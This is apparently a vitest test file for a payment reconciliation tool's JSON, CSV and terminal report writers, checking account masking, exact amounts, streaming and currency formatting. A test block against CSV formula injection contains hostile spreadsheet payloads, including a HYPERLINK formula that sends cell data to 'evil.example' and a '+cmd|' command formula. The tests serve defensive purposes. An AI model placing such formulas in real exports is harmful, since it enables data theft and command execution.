import { Writable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { BREAK_CSV_COLUMNS, csvCell } from '../../src/reconcile/format/csvReport.js';
import { breakLine } from '../../src/reconcile/format/terminalReport.js';
import { reportWriter, type ReportFormat, type ReportOptions } from '../../src/reconcile/index.js';
import { JournalLineError } from '../../src/reconcile/errors.js';
import type { LedgerRecord, ReconcileWindow } from '../../src/reconcile/types.js';
import { ndjsonText, reconcileText, request, type EntrySpec } from '../support/reconcile.js';
import { useTempDir } from '../support/tmp.js';

const tempDir = useTempDir();
const W: ReconcileWindow = { from: Date.UTC(2024, 3, 30, 16), to: Date.UTC(2024, 4, 1, 16), pendingMs: 3_600_000 };
const at = (h: number) => W.from + h * 3_600_000;
const BIG = 2n ** 60n + 1n;

const ledger: LedgerRecord[] = [
  { guid: 'G-dup', status: 'DONE', code: '0000', request: request('G-dup', { from: '6222020001', to: '6222020002' }), firstSentAt: at(1) },
  { guid: 'G-mismatch', status: 'DONE', code: '0000', request: request('G-mismatch'), firstSentAt: at(2) },
  { guid: 'G-ok', status: 'DONE', code: '0000', request: request('G-ok'), firstSentAt: at(3) },
  { guid: 'G-tomb', status: 'PURGED', code: '0000', request: null, firstSentAt: at(4) },
];
const journal: EntrySpec[] = [
  { guid: 'G-dup', ref: 'tx,a', from: '6222020001', to: '6222020002', appliedAt: at(1) },
  { guid: 'G-dup', ref: 'tx-b', from: '6222020001', to: '6222020002', appliedAt: at(1) + 9 },
  { guid: 'G-mismatch', from: 'ACC-1001', to: 'ACC-9002', amount: BIG, appliedAt: at(2) },
  { guid: 'G-ok', appliedAt: at(3) },
  { guid: 'G-tomb', appliedAt: at(4) },
  { guid: 'G-stranger', appliedAt: at(5), currency: null },
];

function sink(): { out: Writable; text: () => string } {
  const chunks: string[] = [];
  // A small buffer, so the writers must wait for 'drain'.
  const out = new Writable({ highWaterMark: 16, write: (c, _e, cb) => setImmediate(() => (chunks.push(String(c)), cb())) });
  return { out, text: () => chunks.join('') };
}

async function render(format: ReportFormat, opts: ReportOptions = {}): Promise<string> {
  const s = sink();
  const writer = reportWriter(format, s.out, opts);
  const { summary, breaks } = await reconcileText(tempDir(), 'j.ndjson', ndjsonText(journal), ledger, W);
  await writer.start({ window: W, source: summary.source });
  for (const b of breaks) await writer.write(b);
  await writer.end(summary);
  await new Promise<void>((r) => s.out.end(r));
  return s.text();
}

describe('--json: one object {window, source, sha256, counts, breaks}', () => {
  it('holds every break with both sides, firstSeen null, amounts exact, accounts masked', async () => {
    const text = await render('json');
    const doc = JSON.parse(text) as Record<string, unknown> & { breaks: Array<Record<string, unknown>> };
    expect(Object.keys(doc)).toEqual(expect.arrayContaining(['window', 'source', 'sha256', 'counts', 'breaks']));
    expect(doc['window']).toEqual(W);
    expect(doc['sha256']).toMatch(/^[0-9a-f]{64}$/);
    expect(doc['counts']).toMatchObject({ duplicate_in_journal: 1, amount_mismatch: 1, missing_in_ledger: 1, matched: 2 });
    expect(doc.breaks.map((b) => [b['guid'], b['category'], b['severity'], b['firstSeen']])).toEqual([
      ['G-dup', 'duplicate_in_journal', 'P1', null],
      ['G-mismatch', 'amount_mismatch', 'P1', null],
      ['G-stranger', 'missing_in_ledger', 'P2', null],
    ]);
    expect(doc.breaks[0]!['ledger']).toEqual({ status: 'DONE', code: '0000', firstSentAt: at(1), from: '******0001', to: '******0002', amount: 100, currency: 'CNY' });
    expect(doc.breaks[1]!['differs']).toEqual(['to', 'amount']);
    expect(doc.breaks[2]!['ledger']).toBeNull();
    expect(text).toContain(`"amount":${BIG}`); // written as its digits: JSON.parse above rounded it
    expect(text).not.toContain('6222020001');
  });

  it('shows whole account numbers when asked; money per currency with no currency as null', async () => {
    const doc = JSON.parse(await render('json', { showAccounts: true })) as { breaks: Array<{ journal: Array<{ from: string }> }>; money: Record<string, unknown> };
    expect(doc.breaks[0]!.journal[0]!.from).toBe('6222020001');
    expect(doc.money['missing_in_ledger']).toEqual({ ledger: [], journal: [{ currency: null, amount: 100 }] });
  });

  it('a run that fails still closes the object, saying why', async () => {
    const s = sink();
    const writer = reportWriter('json', s.out);
    await writer.start({ window: W, source: 'j.csv' });
    await writer.fail(new JournalLineError(7, 'amount', 'is not an integer'));
    await new Promise<void>((r) => s.out.end(r));
    expect(JSON.parse(s.text())).toEqual({
      window: W, source: 'j.csv', breaks: [], sha256: null, counts: null,
      error: { code: 'JOURNAL_LINE', message: 'journal line 7, amount: is not an integer' },
    });
  });
});

describe('writing to a slow reader', () => {
  it('waits for it: the output is never buffered whole (a million breaks must not sit in memory)', async () => {
    let maxBuffered = 0;
    let received = 0;
    const out = new Writable({
      highWaterMark: 1024,
      write: (c: Buffer, _e, cb) => {
        received += c.length;
        setImmediate(cb);
      },
    });
    const writer = reportWriter('json', out);
    const { breaks } = await reconcileText(tempDir(), 'j.ndjson', ndjsonText(journal), ledger, W);
    await writer.start({ window: W, source: 'j.ndjson' });
    for (let i = 0; i < 4000; i++) {
      await writer.write(breaks[i % breaks.length]!);
      maxBuffered = Math.max(maxBuffered, out.writableLength);
    }
    await writer.fail(new Error('stop'));
    await new Promise<void>((r) => out.end(r));
    expect(received).toBeGreaterThan(1_000_000);
    expect(maxBuffered).toBeLessThan(200_000);
  });
});

describe('--csv: one row per break', () => {
  it('has the header and a row per break, quoting per RFC 4180, several entries joined by ;', async () => {
    const rows = parse(await render('csv'), { columns: true }) as Array<Record<string, string>>;
    expect(Object.keys(rows[0]!)).toEqual([...BREAK_CSV_COLUMNS]);
    expect(rows.map((r) => [r['guid'], r['category'], r['severity']])).toEqual([
      ['G-dup', 'duplicate_in_journal', 'P1'],
      ['G-mismatch', 'amount_mismatch', 'P1'],
      ['G-stranger', 'missing_in_ledger', 'P2'],
    ]);
    expect(rows[0]).toMatchObject({ journal_entries: '2', journal_refs: 'tx,a;tx-b', journal_amounts: '100;100', ledger_amount: '100', first_seen: '' });
    expect(rows[1]).toMatchObject({ differs: 'to;amount', journal_amounts: String(BIG) });
    expect(rows[2]).toMatchObject({ ledger_status: '', journal_currencies: '' });
  });
});

describe('--csv: no cell a spreadsheet would run as a formula (CWE-1236)', () => {
  it.each([
    ['=HYPERLINK("http://x","y")', `"'=HYPERLINK(""http://x"",""y"")"`],
    ['+1+cmd|x', `"'+1+cmd|x"`],
    ['-A1', `"'-A1"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
    ['-500', '-500'],
    ['-5;-3', `"'-5;-3"`],
    ['a=b', 'a=b'],
    ['tx,a', '"tx,a"'],
    ['', ''],
    [null, ''],
  ] as const)('%j → %s', (cell, written) => {
    expect(csvCell(cell)).toBe(written);
  });
  it('a negative amount stays a number', () => expect(csvCell(-500n)).toBe('-500'));

  it("a journal's ref, GUID and accounts that start a formula reach the spreadsheet as text, the same text after its quote", async () => {
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"open")';
    const s = sink();
    const writer = reportWriter('csv', s.out);
    const { breaks } = await reconcileText(tempDir(), 'j.ndjson', ndjsonText([{ guid: '@evil', ref: evil, from: '+1+1', to: '-A1', appliedAt: at(5) }]), [], W);
    await writer.start({ window: W, source: 'j.ndjson' });
    for (const b of breaks) await writer.write(b);
    await writer.end(undefined as never);
    const [row] = parse(s.text(), { columns: true }) as Array<Record<string, string>>;
    expect(row).toMatchObject({ guid: "'@evil", journal_refs: `'${evil}`, journal_from: "'+1+1", journal_to: "'-A1" });
    for (const cell of Object.values(row!)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('terminal: one line per break, then the summary', () => {
  it('prints each break on its own line and counts and money per category and per side', async () => {
    const lines = (await render('terminal')).trimEnd().split('\n');
    expect(lines[0]).toMatch(/^P1 duplicate_in_journal G-dup {2}ledger: DONE 0000, \*+0001 → \*+0002 1\.00 CNY, first sent 2024-04-30T17:00:00.000Z {2}journal: 2 postings: tx,a .* \(line 1\); tx-b .* \(line 2\)$/);
    expect(lines[1]).toMatch(/^P1 amount_mismatch G-mismatch {2}differs: to, amount {2}ledger: .* 1\.00 CNY.*journal: .* 11529215046068469\.77 CNY/);
    expect(lines[2]).toMatch(/^P2 missing_in_ledger G-stranger {2}ledger: no row {2}journal: .* 1\.00 \(no currency\)/);
    expect(lines[3]).toBe('');
    const summary = lines.slice(4).join('\n');
    expect(summary).toMatch(/window {3}\[2024-04-30T16:00:00.000Z, 2024-05-01T16:00:00.000Z\), pending 1h/);
    expect(summary).toMatch(/duplicate_in_journal +P1 +1 +1\.00 CNY +2\.00 CNY/);
    expect(summary).toMatch(/amount_mismatch +P1 +1 +1\.00 CNY +11529215046068469\.77 CNY/);
    expect(summary).toMatch(/missing_in_ledger +P2 +1 +0 +1\.00 \(no currency\)/);
    expect(summary).toMatch(/matched +- +2 +1\.00 CNY +2\.00 CNY/);
    expect(summary).toMatch(/1 matched on a tombstone's code alone/);
    expect(lines.at(-1)).toBe('breaks: 3 (P1 2, P2 1)');
  });

  it('shows amounts in major units by the currency (CONTRACT.md §5): JPY without decimals, KWD with three', () => {
    const entry = (amount: bigint, currency: string | null) => ({ ref: 'r', from: '***1', to: '***2', amount, currency, appliedAt: 0, line: 1 });
    const line = breakLine({
      guid: 'G', category: 'duplicate_in_journal', severity: 'P1', differs: [], firstSeen: null,
      ledger: { status: 'DONE', code: '0000', firstSentAt: 0, from: '***1', to: '***2', amount: 7199n, currency: 'CNY' },
      journal: [entry(1500n, 'JPY'), entry(1500n, 'KWD'), entry(5n, null)],
    });
    expect(line).toContain('***1 → ***2 71.99 CNY, first sent');
    expect(line).toMatch(/r \*\*\*1 → \*\*\*2 1500 JPY at .*r \*\*\*1 → \*\*\*2 1\.500 KWD at .*r \*\*\*1 → \*\*\*2 0\.05 \(no currency\) at /);
  });
});
